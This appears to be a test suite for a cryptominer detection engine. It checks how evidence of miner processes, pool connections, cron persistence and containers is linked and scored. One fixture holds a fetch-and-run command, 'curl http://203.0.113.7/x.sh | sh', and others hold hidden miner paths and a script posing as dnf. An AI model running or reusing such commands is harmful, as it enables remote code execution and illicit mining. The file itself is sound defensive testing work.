import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { linkKeyOf } from '#shared/context/link-key.ts';
import { correlate } from '#shared/correlate/correlate.ts';
import { DEFAULT_MATRIX } from '#shared/correlate/matrix.ts';
import type { Evidence, Minutes } from '#shared/model/evidence.ts';
import type { Episode } from '#shared/model/finding.ts';
import type { Group } from '#shared/model/groups.ts';
import type { Flag } from '#shared/model/indicator.ts';
import type { Artifact, LinkKey } from '#shared/model/place.ts';
import { hourOf } from '#shared/model/time.ts';
import { evidenceOf, NOON, PLACE } from '../factories.ts';

const HOUR = hourOf(NOON);
const NOT_SHELLS = (artifact: Artifact): boolean => artifact !== 'path:/bin/sh';

const act = (group: Group, linkKey: LinkKey, change: Partial<Evidence> = {}): Evidence =>
  evidenceOf({ group, rule: group, linkKey, ...change });
const wire = (change: Partial<Evidence> = {}): Evidence =>
  evidenceOf({
    group: 'pool_connection',
    rule: 'pool_connection/203.0.113.9:3333',
    ...change,
    place: { ...PLACE, scope: 'network' },
  });
const inScope = (scope: string, one: Evidence): Evidence => ({ ...one, place: { ...PLACE, scope } });

function episodeOf(evidence: readonly Evidence[], scope = 'host'): Episode | undefined {
  const place = { ...PLACE, scope };
  return correlate(place, evidence, undefined, DEFAULT_MATRIX, NOT_SHELLS).next.episodes.at(-1);
}
const severityOf = (evidence: readonly Evidence[], scope = 'host') => {
  const episode = episodeOf(evidence, scope);
  return episode?.state === 'open' ? episode.severity : undefined;
};

describe('linked sets', () => {
  const miner = act('miner_execution', 'unit:miner.service', { artifacts: ['path:/tmp/.x/xmrig', 'path:/bin/sh'] });
  const pool = act('pool_connection', '-');

  test("an administrator's session beside a service's miner stays apart, and the finding says so", () => {
    const finding = episodeOf([
      miner,
      pool,
      act('persistence_setup', 'ses:7', { artifacts: ['path:/bin/sh'] }),
    ])?.snapshot;
    assert.equal(finding?.severity, 'Medium');
    assert.match(finding?.leftOut[0]?.why ?? '', /session 7/);
  });

  test('an artifact that both name joins them: the cron line that starts the miner', () => {
    assert.equal(
      severityOf([miner, pool, act('persistence_setup', 'ses:7', { artifacts: ['path:/tmp/.x/xmrig'] })]),
      'High',
    );
  });

  describe('a cron line that starts a wrapper, and the miner in the session of cron that ran it', () => {
    const WRAPPER = 'path:/opt/.u/update.sh';
    const line = act('persistence_setup', 'ses:5', { artifacts: ['path:/etc/cron.d/u', WRAPPER] });
    const started = (linkKey: LinkKey, artifacts: Artifact[] = [WRAPPER]): Evidence =>
      act('context', linkKey, { rule: 'script_started', strength: 'note', artifacts });
    const inCron = [
      act('miner_execution', 'ses:77', { artifacts: ['path:/tmp/y'] }),
      act('pool_connection', 'ses:77', { artifacts: ['pool:203.0.113.77:3333'] }),
    ];

    test('are linked by the script that both sessions name, in any order and however often', () => {
      const all = [line, ...inCron, started('ses:77')];
      for (const evidence of [all, all.toReversed(), [...all, ...all.toReversed()]]) {
        const finding = episodeOf(evidence)?.snapshot;
        assert.equal(finding?.severity, 'High');
        assert.deepEqual(finding?.linkKeys, ['ses:5', 'ses:77']);
      }
    });

    test('are apart where another session ran it, or this one another script', () => {
      assert.equal(severityOf([line, ...inCron]), 'Medium');
      assert.equal(severityOf([line, ...inCron, started('ses:78')]), 'Medium');
      assert.equal(severityOf([line, ...inCron, started('ses:77', ['path:/tmp/backup.sh'])]), 'Medium');
    });
  });

  test('links close over named keys', () => {
    const loader = act('system_optimization', 'ses:7', {
      artifacts: ['path:/tmp/.x/xmrig', 'url:http://198.51.100.9/x'],
    });
    const cron = act('persistence_setup', 'ses:8', { artifacts: ['url:http://198.51.100.9/x'] });
    assert.equal(severityOf([miner, pool, loader, cron]), 'Critical');
  });

  test('what came in by no key passes nothing on', () => {
    const nameless = act('system_optimization', '-', { artifacts: ['url:http://198.51.100.9/x'] });
    const cron = act('persistence_setup', 'ses:8', { artifacts: ['url:http://198.51.100.9/x'] });
    assert.equal(severityOf([miner, pool, nameless, cron]), 'Medium');
  });

  test('evidence without any key belongs to every miner of the scope', () => {
    assert.equal(severityOf([miner, pool, act('persistence_setup', '-')]), 'High');
  });

  test('a package upgrade after a true Medium changes nothing', () => {
    const upgrade = ['persistence_setup', 'system_optimization'].map((group) => act(group as Group, 'pkg'));
    assert.equal(severityOf([miner, pool, ...upgrade]), 'Medium');
  });

  describe("an attacker's script that passes for dnf", () => {
    const WALLET = 'wallet:48ed';
    const disguised = (path: string): LinkKey =>
      linkKeyOf({
        executable: '/usr/bin/python3.9',
        name: 'dnf',
        argv: ['/usr/bin/python3', path],
        exact: true,
        uid: '0',
      });
    const hisMiner = act('miner_execution', '-', {
      artifacts: ['path:/opt/.x/netd', WALLET, 'url:http://203.0.113.7/x.sh', 'cmd:curl http://203.0.113.7/x.sh | sh'],
    });

    test('counts beside his miner from every folder but those of the distribution', () => {
      for (const folder of ['/tmp', '/root', '/home/ubuntu', '/usr/local/bin', '/opt/.x', '/dev/shm', '/usr/bin/.x']) {
        const cron = act('persistence_setup', disguised(`${folder}/dnf`), { artifacts: ['path:/etc/cron.d/sync'] });
        assert.equal(severityOf([hisMiner, pool, cron]), 'High', folder);
      }
    });

    test("joins the miner from the distribution's folder by whatever both name, and is shown where they name nothing", () => {
      const key = disguised('/usr/bin/dnf');
      assert.equal(key, 'pkg');
      for (const shared of hisMiner.artifacts) {
        const cron = act('persistence_setup', key, { artifacts: ['path:/etc/cron.d/sync', shared] });
        assert.equal(severityOf([hisMiner, pool, cron]), 'High', shared);
      }
      const unseen = act('persistence_setup', key, { artifacts: ['path:/etc/cron.d/sync'] });
      const finding = episodeOf([hisMiner, pool, unseen])?.snapshot;
      assert.equal(finding?.severity, 'Medium');
      assert.match(finding?.leftOut[0]?.why ?? '', /package/);
    });
  });

  test('keys beyond the cap link by artifact alone', () => {
    assert.equal(severityOf([miner, pool, act('persistence_setup', '+')]), 'Medium');
    assert.equal(
      severityOf([miner, pool, act('persistence_setup', '+', { artifacts: ['path:/tmp/.x/xmrig'] })]),
      'High',
    );
  });

  test('two miners of two sessions are two sets; the finding takes the higher and names the other', () => {
    const evidence = [
      act('miner_execution', 'ses:1', { artifacts: ['path:/tmp/a'] }),
      act('miner_execution', 'ses:2', { artifacts: ['path:/tmp/b'] }),
      act('persistence_setup', 'ses:2'),
      act('pool_connection', '-'),
    ];
    const finding = episodeOf(evidence)?.snapshot;
    assert.equal(finding?.severity, 'High');
    assert.deepEqual(finding?.linkKeys, ['ses:2']);
    assert.deepEqual(
      finding?.apart.map((one) => [one.linkKeys, one.severity]),
      [[['ses:1'], 'Medium']],
    );
  });
});

describe('scopes', () => {
  const minerIn = (scope: string, artifacts: Artifact[] = []): Evidence =>
    inScope(scope, act('miner_execution', '-', { artifacts }));

  test('a miner in one container and a cron edit in another stay Medium', () => {
    const evidence = [
      minerIn('shop/web/app'),
      inScope('shop/web/app', act('pool_connection', '-')),
      inScope('shop/cache/redis', act('persistence_setup', '-')),
    ];
    assert.equal(severityOf(evidence, 'shop/web/app'), 'Medium');
    assert.equal(severityOf(evidence, 'shop/cache/redis'), undefined);
  });

  test("a container's write into the host's cron is one finding of the container", () => {
    const write = act('persistence_setup', '-', { flags: ['write'], artifacts: ['path:/tmp/.x/xmrig'] });
    const evidence = [
      minerIn('shop/web/app', ['path:/tmp/.x/xmrig']),
      inScope('shop/web/app', act('pool_connection', '-')),
      write,
    ];
    assert.equal(severityOf(evidence, 'shop/web/app'), 'High');
    assert.equal(episodeOf(evidence, 'host'), undefined);
  });

  test('the launch on the host moves to the container that it started', () => {
    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48ed'] });
    const evidence = [minerIn('0123456789ab', ['wallet:48ed']), launch, wire()];
    assert.equal(severityOf(evidence, '0123456789ab'), 'Medium');
    assert.equal(episodeOf(evidence, 'host'), undefined);
  });

  describe('one launch on the host and the miner inside', () => {
    const INSIDE = '0123456789ab';
    const launched = (group: Group, artifacts: Artifact[], change: Partial<Evidence> = {}): Evidence =>
      act(group, 'ses:3', { rule: `launch_${group}`, flags: ['launch'], events: ['launch'], artifacts, ...change });
    const restart = launched('persistence_setup', ['image:a/xmrig'], { flags: ['launch', 'write'] });
    const image = launched('miner_execution', ['image:a/xmrig'], { rule: 'by_image' });
    const wallet = launched('miner_execution', ['image:a/xmrig', 'wallet:48ed']);
    const pool = inScope(INSIDE, act('pool_connection', '-', { events: ['inside'] }));
    const inside = (artifacts: Artifact[]): Evidence =>
      inScope(INSIDE, act('miner_execution', '-', { events: ['inside'], artifacts }));

    test('all that one launch says moves with the part that names the wallet', () => {
      const evidence = [inside(['wallet:48ed']), pool, wallet, image, restart];
      assert.equal(severityOf(evidence, INSIDE), 'High');
      assert.equal(episodeOf(evidence, 'host'), undefined);
    });

    test("the miner's image joins the launch and what runs in it, whatever registry and tag are written", () => {
      for (const name of ['image:a/xmrig', 'image:docker.io/a/xmrig', 'image:docker.io/a/xmrig:latest'] as const) {
        const evidence = [inside([name]), pool, image, restart];
        assert.equal(severityOf(evidence, INSIDE), 'High', name);
        assert.equal(episodeOf(evidence, 'host'), undefined, name);
      }
    });

    test('another image, another event and a launch with no miner inside stay with the host', () => {
      const other = { ...restart, ...launched('persistence_setup', ['image:a/web'], { events: ['other'] }) };
      const evidence = [inside(['wallet:48ed', 'image:b/xmrig']), pool, image, restart];
      assert.equal(severityOf(evidence, INSIDE), 'Medium');
      assert.equal(severityOf(evidence, 'host'), 'Low');
      assert.equal(severityOf([inside(['wallet:48ed']), pool, wallet, other], INSIDE), 'Medium');
      const idle = inScope(INSIDE, act('persistence_setup', '-', { artifacts: ['image:a/xmrig'] }));
      assert.equal(severityOf([idle, image, restart], 'host'), 'Low');
    });

    test('beside a miner process of the host the whole launch stays there too', () => {
      const evidence = [
        ...[inside(['wallet:48ed']), pool, wallet, image, restart],
        act('miner_execution', 'ses:3', { rule: 'own', events: ['own'], artifacts: ['wallet:48ed'] }),
      ];
      assert.equal(severityOf(evidence, INSIDE), 'High');
      assert.equal(severityOf(evidence, 'host'), 'Low');
      assert.equal(episodeOf(evidence, 'host')?.snapshot?.evidence.length, 4);
    });
  });

  test('a launch that no container answers stays with the host', () => {
    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48ed'] });
    assert.equal(severityOf([launch, wire()]), 'Medium');
  });

  test('a miner process of the host is always a finding of the host', () => {
    const evidence = [
      minerIn('0123456789ab', ['wallet:48ed']),
      act('miner_execution', '-', { artifacts: ['wallet:48ed'] }),
      wire(),
    ];
    assert.equal(severityOf(evidence, 'host'), 'Medium');
    assert.equal(severityOf(evidence, '0123456789ab'), 'Medium');
  });

  test('the wire joins the miner that named its endpoint, and no other', () => {
    const evidence = [
      minerIn('a/a/a', ['pool:203.0.113.9:3333']),
      minerIn('b/b/b', ['pool:198.51.100.1:3333']),
      wire({ artifacts: ['pool:203.0.113.9:3333'] }),
    ];
    assert.equal(severityOf(evidence, 'a/a/a'), 'Medium');
    assert.equal(severityOf(evidence, 'b/b/b'), undefined);
  });

  test('the wire joins every miner of the host when none named its endpoint', () => {
    const evidence = [minerIn('a/a/a'), minerIn('b/b/b'), wire({ artifacts: ['pool:203.0.113.9:3333'] })];
    assert.equal(severityOf(evidence, 'a/a/a'), 'Medium');
    assert.equal(severityOf(evidence, 'b/b/b'), 'Medium');
  });

  test('the wire alone holds no finding', () => {
    assert.equal(severityOf([wire()], 'network'), undefined);
  });

  test('network hours stretch an episode, one window at a time', () => {
    const hours = [0, 20, 40, 60].map((hour) => wire({ hour: HOUR + hour }));
    const episode = episodeOf([act('miner_execution', '-'), ...hours]);
    assert.deepEqual([episode?.from, episode?.to], [HOUR, HOUR + 60]);
  });
});

describe('pool sessions', () => {
  const firstMinutes = (count: number): bigint => (1n << BigInt(count)) - 1n;
  const session = (minutes: Minutes, change: Partial<Evidence> = {}): Evidence =>
    wire({ flags: ['session'], artifacts: ['pool:203.0.113.9:3333'], minutes, ...change });
  const both = (count: number): Minutes => ({ out: firstMinutes(count), back: 1n });

  test('thirty minutes of sixty, answered, are a miner at work: Medium from flow logs alone', () => {
    const finding = episodeOf([session(both(30))], 'network')?.snapshot;
    assert.equal(finding?.severity, 'Medium');
    assert.equal(finding?.groups.miner_execution?.strength, 'weak');
  });

  for (const [name, minutes] of [
    ['twenty-nine minutes', both(29)],
    ['thirty minutes without an answer', { out: firstMinutes(30), back: 0n }],
    ['answers alone', { out: 0n, back: firstMinutes(60) }],
  ] as const)
    test(`${name} are none`, () => assert.equal(severityOf([session(minutes)], 'network'), undefined));

  test('minutes count over the border of an hour', () => {
    const late = firstMinutes(15) << 45n;
    const evidence = [session({ out: late, back: late }), session(both(15), { hour: HOUR + 1 })];
    assert.equal(severityOf(evidence, 'network'), 'Medium');
  });

  test('minutes of two remotes are not added up', () => {
    const other = session(both(15), { rule: 'pool_connection/203.0.113.8:3333' });
    assert.equal(severityOf([session({ out: firstMinutes(15) << 15n, back: 1n }), other], 'network'), undefined);
  });

  test('the miner that a session shows names no single event as its reason', () => {
    const evidence = episodeOf([session(both(30), { whyEvent: 'one-flow' })], 'network')?.snapshot?.evidence ?? [];
    const derived = evidence.filter(({ group }) => group === 'miner_execution');
    assert.deepEqual(
      derived.map((one) => 'whyEvent' in one),
      [false],
    );
    assert.equal(evidence.find(({ group }) => group === 'pool_connection')?.whyEvent, 'one-flow');
  });

  test('a weak miner counts beside a sustained session', () => {
    assert.equal(severityOf([act('miner_execution', '-', { strength: 'weak' }), session(both(30))]), 'Medium');
    assert.equal(severityOf([act('miner_execution', '-', { strength: 'weak' }), session(both(3))]), undefined);
  });

  test('a scope with miner evidence of its own supersedes the finding of the wire', () => {
    const evidence = [session(both(30)), act('miner_execution', '-')];
    assert.equal(severityOf(evidence, 'network'), undefined);
    assert.equal(severityOf(evidence, 'host'), 'Medium');
  });

  const weak = (flags: Flag[], change: Partial<Evidence> = {}): Evidence =>
    session(both(30), { strength: 'weak', flags: ['session', ...flags], ...change });

  test('an endpoint learned elsewhere makes no session', () => {
    assert.equal(severityOf([weak(['learned'])], 'network'), undefined);
  });

  test("an endpoint that the host's own miner named is strong for it", () => {
    const miner = act('miner_execution', '-', { strength: 'weak', artifacts: ['pool:203.0.113.9:3333'] });
    assert.equal(severityOf([miner, weak(['learned'])]), 'Medium');
    assert.equal(severityOf([miner, weak(['learned', 'proxy'])]), undefined);
  });

  test('flows to an address go on counting while no hour is missed', () => {
    const bound = session({ out: 1n << 50n, back: 1n << 50n });
    const next = weak(['candidate'], { hour: HOUR + 1 });
    assert.equal(severityOf([bound, next], 'network'), 'Medium');
    assert.equal(severityOf([bound, { ...next, hour: HOUR + 2 }], 'network'), undefined);
  });
});

describe('strength decided from merged evidence', () => {
  const kill = (rivals: string[], first = NOON): Evidence =>
    evidenceOf({
      group: 'system_optimization',
      rule: 'rivals',
      strength: 'weak',
      flags: ['rivals'],
      first,
      artifacts: rivals.map((name): Artifact => `rival:${name}`),
    });
  const miner = act('miner_execution', '-', { first: NOON + 60_000 });

  test('three different miners stopped before the miner starts are strong: Low without a pool', () => {
    assert.equal(severityOf([miner, kill(['kinsing', 'xmrig', 'minerd'])]), 'Low');
    assert.equal(severityOf([miner, kill(['kinsing', 'xmrig'])]), undefined);
  });

  test('miners stopped after the chain is complete are a responder at work', () => {
    const chain = [miner, act('pool_connection', '-'), act('persistence_setup', '-')];
    const finding = episodeOf([...chain, kill(['kinsing', 'xmrig', 'minerd'], NOON + 600_000)])?.snapshot;
    assert.equal(finding?.severity, 'High');
    assert.match(finding?.leftOut[0]?.why ?? '', /responder/);
    assert.equal(severityOf([...chain, kill(['kinsing', 'xmrig', 'minerd'])]), 'Critical');
  });

  test('a common option is strong once its binary was deleted', () => {
    const option = act('miner_execution', '-', {
      strength: 'weak',
      flags: ['common_option'],
      artifacts: ['path:/opt/a/b'],
    });
    const gone = act('context', '-', { strength: 'note', flags: ['deleted'], artifacts: ['path:/opt/a/b'] });
    assert.equal(severityOf([option, act('pool_connection', '-')]), undefined);
    assert.equal(severityOf([option, act('pool_connection', '-'), gone]), 'Medium');
  });

  test("a cron line that starts the miner's own file is strong, however harmless it looks", () => {
    const line = act('persistence_setup', '-', {
      strength: 'note',
      flags: ['write'],
      artifacts: ['path:/opt/svc', 'cmd:/opt/svc'],
    });
    const named = act('miner_execution', '-', { artifacts: ['path:/opt/svc'] });
    const pool = act('pool_connection', '-');
    assert.equal(severityOf([named, pool, line]), 'High');
    assert.equal(severityOf([act('miner_execution', '-'), pool, line]), 'Medium');
  });

  test('a flow long after the answer that bound its address is a note', () => {
    const stale = wire({ strength: 'weak', flags: ['candidate', 'session'], minutes: { out: 1n, back: 1n } });
    assert.equal(severityOf([miner, stale]), undefined);
  });

  test('evidence of a forwarder is a note', () => {
    assert.equal(severityOf([miner, wire({ flags: ['forwarder'] })]), undefined);
  });

  test('says that nothing answered the look-up', () => {
    const notes = episodeOf([miner, wire({ flags: ['lookup'] })])?.snapshot?.notes.join(' ');
    assert.match(notes ?? '', /nothing answered/);
  });
});
